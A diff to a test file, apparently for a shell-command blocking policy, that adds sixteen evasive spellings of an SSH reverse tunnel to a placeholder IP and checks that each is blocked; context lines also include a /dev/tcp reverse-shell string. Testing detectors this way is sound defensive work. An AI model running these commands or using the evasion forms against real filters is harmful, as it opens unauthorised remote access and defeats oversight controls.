@@ -44,6 +44,29 @@ def test_invocations(text: str, present: str, absent: str | None) -> None:
         assert not any(s.startswith(absent) for s in inv), inv
 
 
+@pytest.mark.parametrize("text", [
+    "x=ssh; $x -R 1:h:2 u@203.0.113.20",
+    '"ssh" -R 1:h:2 u@203.0.113.20',
+    "/usr/bin/ssh -R 1:h:2 u@203.0.113.20",
+    "command ssh -R 1:h:2 u@203.0.113.20",
+    "exec ssh -R 1:h:2 u@203.0.113.20",
+    "{ ssh -R 1:h:2 u@203.0.113.20; }",
+    "(ssh -R 1:h:2 u@203.0.113.20)",
+    "if true; then ssh -R 1:h:2 u@203.0.113.20; fi",
+    "ssh${IFS}-R${IFS}1:h:2${IFS}u@203.0.113.20",
+    "time ssh -R 1:h:2 u@203.0.113.20",
+    "watch -n1 'ssh -R 1:h:2 u@203.0.113.20'",
+    "echo 203.0.113.20 | xargs -I{} ssh -R 1:h:2 u@{}",
+    "sudo -u nobody env A=1 nohup ssh -R 1:h:2 u@203.0.113.20 &",
+    "bash <<< 'ssh -R 1:h:2 u@203.0.113.20'",
+    "echo 'ssh -R 1:h:2 u@203.0.113.20' | sh",
+    "find . -maxdepth 0 -exec ssh -R 1:h:2 u@203.0.113.20 \\;",
+])
+def test_evasions_of_a_command_position_still_block(text: str) -> None:
+    """Spelling, wrapping or feeding `ssh -R` to a shell is still running it."""
+    assert fired(CommandText(text)).get("tunnels.ssh_forward") == "block", invocations(text)
+
+
 def test_argv_invocations_unwrap_shells_and_wrappers() -> None:
     inv = argv_invocations(["timeout", "2", "bash", "-c", "bash -i >& /dev/tcp/h/1 0>&1"])
     assert "bash -i >&/dev/tcp/h/1 0>&1" in inv
